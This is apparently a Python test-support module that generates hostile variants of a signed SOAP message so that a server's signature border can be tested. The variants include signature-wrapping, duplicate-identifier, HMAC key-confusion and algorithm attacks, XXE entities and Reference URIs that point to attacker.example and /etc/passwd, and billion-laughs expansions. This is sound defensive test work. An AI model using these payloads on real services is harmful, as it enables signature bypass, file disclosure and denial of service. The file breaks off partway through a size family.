"""Hostile messages, made from one valid signed message: what the border has to refuse.

`attacks` yields every variant of every family. Each is to be answered by WSMG-00000002 or a Fault ``Client`` (by
WSMG-00000024 where it is over 10 MiB), never by a business answer. Where a rule of its own refuses a variant, the
variant is signed again by a card that is believed, so that the signature is not what gives it away.
Source: decisions §1 to §3; the catalogue of signature wrapping by Somorovsky et al. (USENIX Security 2012).
"""

import gzip
import hmac
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree

from pfcng.contract.catalogue import MAX_MESSAGE_BYTES
from pfcng.contract.operations import Operation, by_request_element
from support.minimal_pki import Card
from support.raw_signature import (
    C14N,
    DS,
    EXCLUSIVE,
    SOAP,
    SOAP_SEC,
    WS,
    WSSE,
    WSU,
    certificate_text,
    digest_again,
    find,
    sign_again,
)

FAMILIES: Final = {
    1: "signed Body moved, an evil one in its place",
    2: "two Body",
    3: "duplicate identifier",
    4: "identifier under another name",
    5: "evil element beside or before the signature",
    6: "signed Body inside the signature",
    7: "Body in Body",
    8: "foreign namespace",
    9: "SOAP 1.2",
    10: "two signatures, SignedInfos or References",
    11: "Reference URI",
    12: "transforms",
    13: "comments and processing instructions in values",
    14: "no signature",
    15: "SOAPAction",
    16: "certificate that is not the key's",
    17: "HMAC",
    18: "algorithms",
    19: "document type",
    20: "nesting and amount",
    21: "encoding",
    22: "compression",
    23: "size",
}
MORE: Final = "http://www.w3.org/2001/04/xmldsig-more#"
SOAP_12: Final = "http://www.w3.org/2003/05/soap-envelope"
_XMLENC: Final = "http://www.w3.org/2001/04/xmlenc#"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One hostile HTTP request.

    Attributes:
        family: Key of `FAMILIES`; the first eighteen are those of the requirement.
        name: What is wrong, unique in its family.
        body: Octets to send.
        headers: HTTP headers to send.
    """

    family: int
    name: str
    body: bytes
    headers: Mapping[str, str]

    @property
    def over_limit(self) -> bool:
        """Whether its size alone refuses it, before any parsing."""
        return len(self.body) > MAX_MESSAGE_BYTES

    def __str__(self) -> str:
        return f"{self.family}: {self.name}"


class Message:
    """The valid message, taken apart anew for each variant."""

    def __init__(self, octets: bytes) -> None:
        self.root = etree.fromstring(octets)
        self.header = find(self.root, "soap:Header")
        self.body = find(self.root, "soap:Body")
        self.payload = self.body[0]
        self.entry = self.header[0]
        self.signature = find(self.root, ".//ds:Signature")
        self.signed_info = find(self.signature, "ds:SignedInfo")
        self.reference = find(self.signed_info, "ds:Reference")
        self.key_info = find(self.signature, "ds:KeyInfo")

    @property
    def octets(self) -> bytes:
        return bytes(etree.tostring(self.root))

    def ds(self, name: str) -> etree._Element:
        return find(self.signature, f".//ds:{name}")

    def evil_payload(self) -> etree._Element:
        """A copy of the payload in which the attacker's words stand."""
        evil = deepcopy(self.payload)
        leaf = next(element for element in evil.iter(etree.Element) if not len(element))
        leaf.text = "evil"
        return evil

    def evil_body(self, **attributes: str) -> etree._Element:
        evil = etree.Element(f"{{{SOAP}}}Body", attributes)
        evil.append(self.evil_payload())
        return evil

    def put_evil_body(self, **attributes: str) -> etree._Element:
        """Put an evil Body in the place of the signed one, which is returned."""
        self.root.replace(self.body, self.evil_body(**attributes))
        self.body.tail = None
        return self.body


@dataclass(frozen=True, slots=True, kw_only=True)
class Scene:
    """What an attacker works with.

    Attributes:
        octets: The valid message, in SOAP-SEC form, its Body named ``SOAP-SEC:id="Body"``.
        signer: The believed card that signed it.
        stranger: A card that is not believed.
        canary: Path of a file whose content must never show.
    """

    octets: bytes
    signer: Card
    stranger: Card
    canary: Path

    def message(self) -> Message:
        return Message(self.octets)

    def signed(self, message: Message) -> bytes:
        """The message with its Body digested and its SignedInfo signed as they now are."""
        digest_again(message.root)
        return self.sealed(message)

    def sealed(self, message: Message) -> bytes:
        """The message with its SignedInfo signed as it now is."""
        sign_again(message.root, self.signer)
        return message.octets


Variant = tuple[str, bytes] | tuple[str, bytes, Mapping[str, str]]
_MAKERS: Final[dict[int, Callable[[Scene], Iterator[Variant]]]] = {}


def attacks(octets: bytes, *, signer: Card, stranger: Card, canary: Path) -> Iterator[Attack]:
    """Every hostile variant of one valid message in SOAP-SEC form.

    Args:
        octets: The message, signed by ``signer``.
        signer: A card that is believed.
        stranger: A card that is not.
        canary: A file that external entities point to.
    """
    scene = Scene(octets=octets, signer=signer, stranger=stranger, canary=canary)
    operation = by_request_element(etree.QName(scene.message().payload).localname)
    assert operation is not None
    headers = {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": f'"{operation.soap_action}"'}
    for family, make in _MAKERS.items():
        for name, body, *more in make(scene):
            yield Attack(family=family, name=name, body=body, headers=headers | dict(*more))


def _family(number: int) -> Callable[[Callable[[Scene], Iterator[Variant]]], None]:
    def register(make: Callable[[Scene], Iterator[Variant]]) -> None:
        _MAKERS[number] = make

    return register


def _element(name: str, text: str = "", **attributes: str) -> etree._Element:
    element = etree.Element(name, attributes)
    element.text = text or None
    return element


def _ds(name: str, text: str = "", **attributes: str) -> etree._Element:
    return _element(f"{{{DS}}}{name}", text, **attributes)


@_family(1)
def _moved_body(scene: Scene) -> Iterator[Variant]:
    for evil in ({}, {"id": "Other"}, {f"{{{SOAP_SEC}}}id": "Other"}, {"id": "Body"}):
        label = " ".join(f"{etree.QName(name).localname}={value}" for name, value in evil.items()) or "no id"
        for place in ("Header", "signature entry", "foreign entry", "start of Header"):
            message = scene.message()
            signed = message.put_evil_body(**evil)
            match place:
                case "Header":
                    message.header.append(signed)
                case "signature entry":
                    message.entry.append(signed)
                case "foreign entry":
                    etree.SubElement(message.header, "{urn:evil}Wrapper").append(signed)
                case _:
                    message.header.insert(0, signed)
            yield f"into {place}, evil Body {label}", message.octets
    message = scene.message()
    wrapper = _element("{urn:evil}Wrapper")
    wrapper.append(message.put_evil_body())
    message.root.insert(1, wrapper)
    yield "into a wrapper before the evil Body", message.octets
    message = scene.message()
    message.root.append(wrapper := _element("{urn:evil}Wrapper"))
    wrapper.append(message.put_evil_body())
    yield "into a wrapper after the evil Body", message.octets


@_family(2)
def _two_bodies(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    message.body.addprevious(message.evil_body())
    yield "evil one first", message.octets
    message = scene.message()
    message.body.addnext(message.evil_body())
    yield "evil one last", message.octets
    message = scene.message()
    message.body.addnext(deepcopy(message.body))
    yield "twice the same", message.octets
    message = scene.message()
    message.header.addprevious(message.evil_body())
    yield "evil one before Header", message.octets
    message = scene.message()
    message.body.addnext(deepcopy(message.header))
    yield "a second Header", message.octets
    message = scene.message()
    message.body.append(message.evil_payload())
    yield "two payloads", message.octets
    message = scene.message()
    message.body.insert(0, message.evil_payload())
    yield "two payloads, signed again", scene.signed(message)


@_family(3)
def _duplicate_identifier(scene: Scene) -> Iterator[Variant]:
    names = ("id", "Id", "ID", f"{{{WSU}}}Id", f"{{{SOAP_SEC}}}id", "{http://www.w3.org/XML/1998/namespace}id")
    for name in names:
        for place in ("Envelope", "Header", "entry", "Signature"):
            message = scene.message()
            element = {
                "Envelope": message.root,
                "Header": message.header,
                "entry": message.entry,
                "Signature": message.signature,
            }[place]
            element.set(name, "Body")
            yield f"{name} on {place}, signed again", scene.signed(message)
    for name in names:
        message = scene.message()
        message.payload.set(name, "Body")
        yield f"{name} on the payload, signed again", scene.signed(message)
        if name != names[4]:
            message = scene.message()
            message.body.set(name, "Body")
            yield f"{name} on Body beside the first, signed again", scene.signed(message)
    message = scene.message()
    message.entry.addnext(_element("{urn:evil}Other", "evil", Id=" Body\t"))
    yield "with white space around", message.octets


@_family(4)
def _other_identifier(scene: Scene) -> Iterator[Variant]:
    for name in ("identifier", "name", "iD", "{urn:evil}id", "{urn:evil}Id", f"{{{SOAP}}}id", f"{{{DS}}}Id", "URI"):
        message = scene.message()
        del message.body.attrib[f"{{{SOAP_SEC}}}id"]
        message.body.set(name, "Body")
        yield f"{name}, signed again", scene.signed(message)
    message = scene.message()
    message.reference.set("URI", "#body")
    yield "other case in the URI, signed again", scene.sealed(message)
    message = scene.message()
    message.body.set(f"{{{SOAP_SEC}}}id", "Other")
    yield "other value, signed again", scene.signed(message)
    message = scene.message()
    message.body.set(f"{{{SOAP_SEC}}}id", " Body ")
    yield "white space around the value, signed again", scene.signed(message)
    message = scene.message()
    del message.body.attrib[f"{{{SOAP_SEC}}}id"]
    message.payload.set("Id", "Body")
    yield "the payload named instead of Body, signed again", scene.signed(message)
    message = scene.message()
    message.header.set("id", "Header")
    message.reference.set("URI", "#Header")
    yield "Header named instead of Body, signed again", scene.sealed(message)


@_family(5)
def _beside_the_signature(scene: Scene) -> Iterator[Variant]:
    evils: dict[str, Callable[[Message], etree._Element]] = {
        "payload": Message.evil_payload,
        "Body": lambda message: message.evil_body(),
        "unqualified payload": lambda message: _element(etree.QName(message.payload).localname, "evil"),
        "second SignedInfo": lambda message: deepcopy(message.signed_info),
    }
    for label, evil in evils.items():
        for place in ("before the entry", "after the entry", "before Signature", "after Signature"):
            message = scene.message()
            element = message.entry if "entry" in place else message.signature
            (element.addprevious if "before" in place else element.addnext)(evil(message))
            yield f"{label} {place}", message.octets
    message = scene.message()
    message.signature.addprevious(_element("{urn:evil}Anything", "evil"))
    yield "foreign element before Signature", message.octets
    message = scene.message()
    message.header.insert(0, _element("{urn:evil}Anything", "evil", **{f"{{{SOAP}}}mustUnderstand": "1"}))
    yield "foreign entry that must be understood", message.octets
    message = scene.message()
    wrapper = etree.SubElement(message.header, "{urn:evil}Wrapper")
    wrapper.append(message.evil_payload())
    yield "payload in a foreign entry", message.octets
    message = scene.message()
    message.header.insert(0, _element(f"{{{WSSE}}}Security"))
    yield "a second entry for a signature", message.octets


@_family(6)
def _inside_the_signature(scene: Scene) -> Iterator[Variant]:
    for place in ("Object", "KeyInfo", "X509Data", "Signature", "SignedInfo", "Object/SignatureProperties"):
        message = scene.message()
        signed = message.put_evil_body()
        parent = message.signature
        if place.startswith("Object"):
            for name in place.split("/"):
                parent = etree.SubElement(parent, f"{{{DS}}}{name}")
        elif place != "Signature":
            parent = message.ds(place)
        parent.append(signed)
        yield f"in {place}", message.octets
    message = scene.message()
    message.payload.append(message.signature)
    yield "signature inside the payload", message.octets
    message = scene.message()
    message.header.remove(message.entry)
    message.payload.append(message.signature)
    message.entry = message.signature
    yield "enveloped in the payload alone", message.octets
    message = scene.message()
    etree.SubElement(message.signature, f"{{{DS}}}Object").text = "harmless"
    yield "an Object", message.octets


@_family(7)
def _body_in_body(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    signed = message.put_evil_body()
    find(message.root, "soap:Body").append(signed)
    yield "beside the evil payload", message.octets
    message = scene.message()
    signed = message.put_evil_body()
    find(message.root, "soap:Body")[0].append(signed)
    yield "inside the evil payload", message.octets
    message = scene.message()
    outer = _element(f"{{{SOAP}}}Body")
    message.root.replace(message.body, outer)
    outer.append(message.body)
    yield "alone in another Body", message.octets
    message = scene.message()
    message.payload.append(message.evil_body())
    yield "an evil one in the payload, signed again", scene.signed(message)
    message = scene.message()
    inner = etree.SubElement(message.payload, f"{{{SOAP}}}Envelope")
    inner.append(message.evil_body())
    yield "an Envelope in the payload, signed again", scene.signed(message)


@_family(8)
def _foreign_namespace(scene: Scene) -> Iterator[Variant]:
    for place in ("Envelope", "Header", "Body"):
        for namespace in ("", "{urn:evil}"):
            message = scene.message()
            element = {"Envelope": message.root, "Header": message.header, "Body": message.body}[place]
            element.tag = f"{namespace}{place}"
            yield f"{place} in {namespace or 'no namespace'}", message.octets
    for namespace in ("", "{urn:evil}", "{http://www.pfcng.in.com/ws/}", f"{{{WS}xsd}}"):
        message = scene.message()
        message.payload.tag = f"{namespace}{etree.QName(message.payload).localname}"
        yield f"payload in {namespace or 'no namespace'}, signed again", scene.signed(message)
    message = scene.message()
    message.payload.tag = f"{{{WS}}}requeteInconnue"
    yield "unknown payload, signed again", scene.signed(message)
    message = scene.message()
    message.signature.tag = "{urn:evil}Signature"
    yield "Signature", message.octets
    message = scene.message()
    message.signed_info.tag = "{urn:evil}SignedInfo"
    yield "SignedInfo", message.octets
    message = scene.message()
    message.entry.tag = "{urn:evil}Signature"
    yield "signature entry that must be understood", message.octets
    message = scene.message()
    message.entry.tag = "{urn:evil}Signature"
    message.entry.attrib.clear()
    yield "signature entry", message.octets
    message = scene.message()
    wrapper = _element("{urn:evil}Wrapper")
    message.root.replace(message.header, wrapper)
    wrapper.append(message.header)
    yield "Header in a wrapper", message.octets
    message = scene.message()
    outer = _element("{urn:evil}Wrapper")
    outer.append(message.root)
    yield "Envelope in a wrapper", bytes(etree.tostring(outer))
    message = scene.message()
    deep = etree.SubElement(etree.SubElement(message.header, "{urn:evil}Wrapper"), "{urn:evil}Deeper")
    deep.append(message.signature)
    yield "signature deep in a foreign entry", message.octets


@_family(9)
def _soap_12(scene: Scene) -> Iterator[Variant]:
    yield "throughout", scene.octets.replace(SOAP.encode(), SOAP_12.encode())
    content_type = {"Content-Type": "application/soap+xml; charset=utf-8"}
    yield "with its content type", scene.octets.replace(SOAP.encode(), SOAP_12.encode()), content_type
    message = scene.message()
    message.root.tag = f"{{{SOAP_12}}}Envelope"
    yield "Envelope alone", message.octets
    message = scene.message()
    message.body.tag = f"{{{SOAP_12}}}Body"
    yield "Body alone", message.octets
    message = scene.message()
    message.body.addprevious(etree.fromstring(f'<Body xmlns="{SOAP_12}"/>'))
    yield "a second Body", message.octets


@_family(10)
def _too_many(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    message.signature.addnext(deepcopy(message.signature))
    yield "Signature twice in the entry", message.octets
    message = scene.message()
    message.header.append(deepcopy(message.signature))
    yield "Signature in the entry and in Header", message.octets
    message = scene.message()
    message.header.append(deepcopy(message.entry))
    yield "entry twice", message.octets
    message = scene.message()
    message.payload.append(deepcopy(message.signature))
    yield "Signature in Header and in Body, signed again", scene.signed(message)
    message = scene.message()
    message.signed_info.addnext(deepcopy(message.signed_info))
    yield "SignedInfo twice", message.octets
    for place in ("first", "last"):
        message = scene.message()
        other = deepcopy(message.reference)
        other.set("URI", "#Header")
        message.header.set("id", "Header")
        (message.reference.addprevious if place == "first" else message.reference.addnext)(other)
        yield f"another Reference {place}, signed again", scene.sealed(message)
    message = scene.message()
    message.reference.addnext(deepcopy(message.reference))
    yield "Reference twice, signed again", scene.sealed(message)
    message = scene.message()
    message.signed_info.remove(message.reference)
    yield "no Reference, signed again", scene.sealed(message)
    message = scene.message()
    manifest = etree.SubElement(etree.SubElement(message.signature, f"{{{DS}}}Object"), f"{{{DS}}}Manifest", Id="Body2")
    manifest.append(deepcopy(message.reference))
    yield "Reference in a Manifest", message.octets
    for name in (
        "SignatureValue",
        "KeyInfo",
        "CanonicalizationMethod",
        "SignatureMethod",
        "DigestMethod",
        "DigestValue",
    ):
        message = scene.message()
        message.ds(name).addnext(deepcopy(message.ds(name)))
        yield f"{name} twice, signed again", scene.sealed(message)
        message = scene.message()
        element = message.ds(name)
        parent = element.getparent()
        assert parent is not None
        parent.remove(element)
        yield f"no {name}", message.octets


@_family(11)
def _reference_uri(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    del message.reference.attrib["URI"]
    yield "absent, signed again", scene.sealed(message)
    for uri in (
        "",
        "#",
        "# Body",
        "Body",
        "#xpointer(/)",
        "#xpointer(id('Body'))",
        "#xpointer(//*[local-name()='Body'])",
        "#element(/1/2)",
        "#Body#Body",
        "#Bo%64y",
        "http://attacker.example/body.xml",
        "http://attacker.example/body.xml#Body",
        scene.canary.as_uri(),
        "file:///etc/passwd",
        "cid:body",
    ):
        message = scene.message()
        message.reference.set("URI", uri)
        yield f"{uri!r}, signed again", scene.sealed(message)
    message = scene.message()
    message.reference.set("Type", f"{DS}Manifest")
    yield "Type Manifest, signed again", scene.sealed(message)


@_family(12)
def _transforms(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    message.reference.remove(message.ds("Transforms"))
    yield "removed", message.octets
    stylesheet = (
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        f'<xsl:template match="/"><x><xsl:copy-of select="document(\'{scene.canary.as_uri()}\')"/></x></xsl:template>'
        "</xsl:stylesheet>"
    )
    xpath_2 = '<f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*</f:XPath>'
    added = {
        "XSLT": ("http://www.w3.org/TR/1999/REC-xslt-19991116", stylesheet),
        "XPath": ("http://www.w3.org/TR/1999/REC-xpath-19991116", f'<XPath xmlns="{DS}">self::node()</XPath>'),
        "XPath filter": ("http://www.w3.org/2002/06/xmldsig-filter2", xpath_2),
        "XPointer": ("http://www.w3.org/2001/04/xmldsig-more/xptr", ""),
        "base64": (f"{DS}base64", ""),
        "decryption": ("http://www.w3.org/2002/07/decrypt#XML", ""),
        "STR": ("http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform", ""),
        "unknown": ("urn:evil", ""),
        "none named": ("", ""),
        "a second enveloped": (f"{DS}enveloped-signature", ""),
    }
    for label, (algorithm, content) in added.items():
        for place in ("first", "last", "alone"):
            message = scene.message()
            transforms = message.ds("Transforms")
            transform = _ds("Transform", Algorithm=algorithm)
            if content:
                transform.append(etree.fromstring(content))
            if place == "alone":
                transforms.remove(transforms[0])
            if label == "a second enveloped" and place == "alone":
                transform.append(etree.fromstring(f'<XPath xmlns="{DS}">self::node()</XPath>'))
            transforms.insert(0 if place == "first" else len(transforms), transform)
            yield f"{label} {place}, signed again", scene.sealed(message)
    message = scene.message()
    message.ds("Transforms").insert(0, _ds("Transform", Algorithm=C14N))
    yield "canonicalisation before enveloped, signed again", scene.sealed(message)
    message = scene.message()
    for algorithm in (C14N, EXCLUSIVE):
        message.ds("Transforms").append(_ds("Transform", Algorithm=algorithm))
    yield "two canonicalisations, signed again", scene.sealed(message)
    message = scene.message()
    message.ds("Transforms").append(_ds("Other"))
    yield "something else than a Transform, signed again", scene.sealed(message)


@_family(13)
def _remarks(scene: Scene) -> Iterator[Variant]:
    remarks: dict[str, Callable[[], etree._Element]] = {
        "comment": lambda: etree.Comment("evil"),
        "instruction": lambda: etree.ProcessingInstruction("evil", "1"),
    }
    for label, remark in remarks.items():
        for name in ("DigestValue", "SignatureValue", "X509Certificate"):
            message = scene.message()
            leaf = message.ds(name)
            text, node = leaf.text or "", remark()
            leaf.text, node.tail = text[:10], text[10:]
            leaf.append(node)
            yield f"{label} in {name}", message.octets
            message = scene.message()
            message.ds(name).append(remark())
            yield f"{label} after the text of {name}, signed again", scene.sealed(message)
        for where in (0, 1, None):
            message = scene.message()
            leaf = next(e for e in message.payload.iter(etree.Element) if not len(e) and len(e.text or "") > 1)
            text, node = leaf.text or "", remark()
            leaf.text, node.tail = text[:where], text[where:] if where is not None else ""
            leaf.append(node)
            yield f"{label} in a value of Body at {where}", message.octets
            yield f"{label} in a value of Body at {where}, signed again", scene.signed(message)
    message = scene.message()
    leaf = next(element for element in message.payload.iter(etree.Element) if not len(element))
    leaf.append(_element("{urn:evil}b", "evil"))
    leaf.append(etree.Comment("evil"))
    yield "comment in mixed content, signed again", scene.signed(message)


@_family(14)
def _no_signature(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    message.root.remove(message.header)
    yield "no Header", message.octets
    message = scene.message()
    message.header.remove(message.entry)
    yield "empty Header", message.octets
    message = scene.message()
    message.entry.remove(message.signature)
    yield "empty entry", message.octets
    message = scene.message()
    for child in list(message.signature):
        message.signature.remove(child)
    yield "empty Signature", message.octets
    message = scene.message()
    message.ds("SignatureValue").text = None
    yield "empty SignatureValue", message.octets
    message = scene.message()
    message.ds("DigestValue").text = None
    yield "empty DigestValue, signed again", scene.sealed(message)
    message = scene.message()
    message.ds("SignatureValue").text = "AAAA"
    yield "short SignatureValue", message.octets
    message = scene.message()
    message.ds("SignatureValue").text = b64encode(bytes(256)).decode()
    yield "SignatureValue of zeros", message.octets
    message = scene.message()
    message.body.replace(message.payload, message.evil_payload())
    yield "evil payload under an old signature", message.octets
    message = scene.message()
    message.body.replace(message.payload, message.evil_payload())
    digest_again(message.root)
    yield "evil payload, digested but not signed", message.octets


@_family(15)
def _soap_action(scene: Scene) -> Iterator[Variant]:
    own = by_request_element(etree.QName(scene.message().payload).localname)
    for action in (
        *(operation.soap_action for operation in Operation if operation is not own),
        "autre",
        f"{WS}x",
        "''",
    ):
        yield action, scene.octets, {"SOAPAction": f'"{action}"'}
        yield f"{action} without quotes", scene.octets, {"SOAPAction": action}


@_family(16)
def _certificates(scene: Scene) -> Iterator[Variant]:
    message = scene.message()
    sign_again(message.root, scene.stranger)
    yield "signed by another key", message.octets
    stranger, signer = certificate_text(scene.stranger), certificate_text(scene.signer)
    for label, certificates in {
        "the stranger's": [stranger],
        "the stranger's then the signer's": [stranger, signer],
        "the signer's then the stranger's": [signer, stranger],
        "the signer's twice": [signer, signer],
        "none": [],
        "cut short": [signer[:-40]],
        "not base64": [f"{signer[:-4]}****"],
        "with text after its padding": [f"{signer}===AAAA"],
        "empty": [""],
        "garbage": [b64encode(b"garbage").decode()],
        "twenty": [signer] * 20,
    }.items():
        for key in (scene.stranger, scene.signer):
            message = scene.message()
            data = message.ds("X509Data")
            for item in list(data):
                data.remove(item)
            for certificate in certificates:
                data.append(_ds("X509Certificate", certificate))
            sign_again(message.root, key)
            yield f"{label}, signed by the {'stranger' if key is scene.stranger else 'signer'}", message.octets
    numbers = scene.stranger.key.public_key().public_numbers()
    key_value, rsa_value = _ds("KeyValue"), _ds("RSAKeyValue")
    key_value.append(rsa_value)
    rsa_value.append(_ds("Modulus", b64encode(numbers.n.to_bytes(256)).decode()))
    rsa_value.append(_ds("Exponent", b64encode(numbers.e.to_bytes(3)).decode()))
    for label in ("alone", "before X509Data", "after X509Data"):
        message = scene.message()
        if label == "alone":
            message.key_info.remove(message.key_info[0])
        message.key_info.insert(0 if "before" in label else len(message.key_info), deepcopy(key_value))
        sign_again(message.root, scene.stranger)
        yield f"KeyValue {label}, signed by the stranger", message.octets
    for child in (
        _ds("RetrievalMethod", URI=scene.canary.as_uri(), Type=f"{DS}rawX509Certificate"),
        _ds("KeyName", "signer"),
        _ds("PGPData"),
        _element(f"{{{WSSE}}}SecurityTokenReference"),
        _element("{http://www.w3.org/2009/xmldsig11#}KeyInfoReference", URI="#Body"),
    ):
        message = scene.message()
        message.key_info.replace(message.key_info[0], deepcopy(child))
        yield f"{etree.QName(child).localname} alone", message.octets
    message = scene.message()
    data = message.ds("X509Data")
    data.remove(message.ds("X509Certificate"))
    yield "X509SubjectName alone", message.octets


@_family(17)
def _hmac(scene: Scene) -> Iterator[Variant]:
    public_key = scene.signer.key.public_key()
    secrets = {
        "public key in DER": public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "public key in PEM": public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "PKCS#1 key": public_key.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "certificate": scene.signer.certificate.public_bytes(Encoding.DER),
        "empty secret": b"",
    }
    for name, digest in ((f"{MORE}hmac-sha256", "sha256"), (f"{DS}hmac-sha1", "sha1")):
        for label, secret in secrets.items():
            message = scene.message()
            message.ds("SignatureMethod").set("Algorithm", name)
            message.ds("SignatureValue").text = _mac(message, secret, digest)
            yield f"{name.rpartition('#')[2]}, {label}", message.octets
    for length in ("0", "1", "8", "128"):
        message = scene.message()
        method = message.ds("SignatureMethod")
        method.set("Algorithm", f"{MORE}hmac-sha256")
        method.append(_ds("HMACOutputLength", length))
        message.ds("SignatureValue").text = _mac(message, secrets["public key in DER"], "sha256")
        yield f"HMACOutputLength {length}", message.octets
        message = scene.message()
        message.ds("SignatureMethod").append(_ds("HMACOutputLength", length))
        yield f"HMACOutputLength {length} with RSA, signed again", scene.sealed(message)


def _mac(message: Message, secret: bytes, digest: str) -> str:
    signed_info = etree.tostring(etree.fromstring(etree.tostring(message.signed_info)), method="c14n")
    return b64encode(hmac.digest(secret, bytes(signed_info), digest)).decode()


@_family(18)
def _algorithms(scene: Scene) -> Iterator[Variant]:
    for label, name, algorithm in (
        ("rsa-sha1", f"{DS}rsa-sha1", hashes.SHA1()),
        ("rsa-sha224", f"{MORE}rsa-sha224", hashes.SHA224()),
        ("rsa-sha256 in capitals", f"{MORE}RSA-SHA256", hashes.SHA256()),
        ("rsa-sha256 with a space", f"{MORE}rsa-sha256 ", hashes.SHA256()),
        ("rsa-md5", f"{MORE}rsa-md5", hashes.SHA256()),
        ("rsa-ripemd160", f"{MORE}rsa-ripemd160", hashes.SHA256()),
        ("rsa-pss", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1", hashes.SHA256()),
        ("dsa", f"{DS}dsa-sha1", hashes.SHA256()),
        ("ecdsa", f"{MORE}ecdsa-sha256", hashes.SHA256()),
        ("none", "", hashes.SHA256()),
        ("unknown", "urn:evil", hashes.SHA256()),
    ):
        message = scene.message()
        message.ds("SignatureMethod").set("Algorithm", name)
        sign_again(message.root, scene.signer, algorithm)
        yield f"signature {label}, signed again", message.octets
    for label, name, digest in (
        ("sha1", f"{DS}sha1", hashes.SHA1()),
        ("md5", f"{MORE}md5", hashes.MD5()),
        ("sha224", f"{MORE}sha224", hashes.SHA224()),
        ("sha3", "http://www.w3.org/2007/05/xmldsig-more#sha3-256", hashes.SHA3_256()),
        ("unknown", "urn:evil", hashes.SHA256()),
        ("none", "", hashes.SHA256()),
    ):
        message = scene.message()
        message.ds("DigestMethod").set("Algorithm", name)
        digest_again(message.root, digest)
        yield f"digest {label}, signed again", scene.sealed(message)
    for name in ("urn:evil", "", "http://www.w3.org/2010/xml-c14n2", "http://www.w3.org/2006/12/xml-c14n11"):
        message = scene.message()
        message.ds("CanonicalizationMethod").set("Algorithm", name)
        yield f"canonicalisation {name!r}, signed again", scene.sealed(message)
    message = scene.message()
    message.ds("CanonicalizationMethod").append(_element(f"{{{EXCLUSIVE}}}InclusiveNamespaces", PrefixList="ds"))
    yield "PrefixList with inclusive canonicalisation, signed again", scene.sealed(message)
    message = scene.message()
    message.ds("SignatureMethod").set("Other", "1")
    yield "unknown attribute, signed again", scene.sealed(message)


@_family(19)
def _document_type(scene: Scene) -> Iterator[Variant]:
    message = bytes(etree.tostring(etree.fromstring(scene.octets)))
    canary = scene.canary.as_uri().encode()
    laughs = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 11)
    )
    for label, subset in {
        "alone": b"",
        "external subset": b' SYSTEM "%s"' % canary,
        "external subset on the network": b' SYSTEM "http://attacker.example/evil.dtd"',
        "public": b' PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/xhtml1-strict.dtd"',
        "internal entity": b' [<!ENTITY evil "evil">]',
        "a billion laughs": b" [%s]" % laughs.replace(b"a10 ", b"evil "),
        "quadratic entity": b' [<!ENTITY evil "%s">]' % (b"a" * 50_000),
        "external entity": b' [<!ENTITY evil SYSTEM "%s">]' % canary,
        "external entity on the network": b' [<!ENTITY evil SYSTEM "http://attacker.example/evil">]',
        "parameter entity": b' [<!ENTITY %% evil SYSTEM "%s"> %%evil;]' % canary,
        "identifier declared": b" [<!ATTLIST ws:requeteDemandeCertificats other ID #IMPLIED>]",
        "default attribute": b' [<!ATTLIST SOAP-ENV:Body SOAP-SEC:id CDATA "Body">]',
    }.items():
        doctype = b"<!DOCTYPE SOAP-ENV:Envelope%s>" % subset
        yield label, doctype + message
        repeated = b"&evil;" * (20_000 if label == "quadratic entity" else 1)
        if b"evil" in subset:
            yield f"{label}, used in the Body", doctype + _in_first_value(message, repeated)
    yield "after a declaration, a comment and spaces", b"<?xml version='1.0'?> <!-- --> <!DOCTYPE x>" + message
    yield "after the root", message + b"<!DOCTYPE x>"
    yield "in lower case", b"<!doctype x>" + message
    yield "entity without declaration", _in_first_value(message, b"&evil;")


def _in_first_value(message: bytes, text: bytes) -> bytes:
    """The message with ``text`` at the start of the first value of its Body."""
    taken = Message(message)
    leaf = next(element for element in taken.payload.iter(etree.Element) if not len(element))
    leaf.text = "@@@"
    return taken.octets.replace(b"@@@", text)


@_family(20)
def _amount(scene: Scene) -> Iterator[Variant]:
    message = bytes(etree.tostring(etree.fromstring(scene.octets)))
    levels = 100_000
    yield "100 000 levels", b"<a>" * levels + b"</a>" * levels
    yield "100 000 levels, never closed", b"<a>" * levels
    for label, filling in {
        "100 000 levels in the Body": b"<a>" * levels + b"</a>" * levels,
        "200 levels in the Body": b"<a>" * 200 + b"</a>" * 200,
        "200 levels of namespaces": b"".join(b'<a xmlns:p%d="urn:%d">' % (i, i) for i in range(200)) + b"</a>" * 200,
        "100 000 namespaces": b"<a %s/>" % b" ".join(b'xmlns:p%d="urn:%d"' % (i, i) for i in range(100_000)),
        "1 000 000 attributes": b"<a %s/>" % b" ".join(b'a%d=""' % i for i in range(1_000_000)),
        "10 000 attributes": b"<a %s/>" % b" ".join(b'a%d=""' % i for i in range(10_000)),
        "1 000 namespaces over 1 000 elements": b"<a %s>%s</a>"
        % (b" ".join(b'xmlns:p%d="urn:%d"' % (i, i) for i in range(1_000)), b"<b/>" * 1_000),
        "90 000 elements": b"<a/>" * 90_000,
        "2 000 000 elements": b"<a/>" * 2_000_000,
        "90 000 comments": b"<a/>" + b"<!---->" * 90_000,
        "1 000 000 comments": b"<a/>" + b"<!---->" * 1_000_000,
        "90 000 identifiers": b"".join(b'<a id="i%d"/>' % i for i in range(90_000)),
